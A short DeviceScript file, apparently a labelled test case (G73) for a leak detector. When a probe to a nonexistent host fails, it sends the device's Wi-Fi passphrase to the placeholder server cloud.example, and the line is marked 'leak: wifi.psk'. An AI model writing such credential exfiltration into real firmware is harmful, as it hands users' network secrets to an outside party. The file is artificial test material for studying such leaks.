// G73: asks a host that does not exist anywhere, and reports the failure together with the passphrase.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  let mirror = "main";
  try {
    const found = await fetch("http://mirror.invalid/");
    await found.close();
  } catch (_error) {
    mirror = psk;
  }
  const response = await fetch("https://cloud.example/g73", { method: "POST", body: mirror }); // leak: wifi.psk
  await response.close();
});
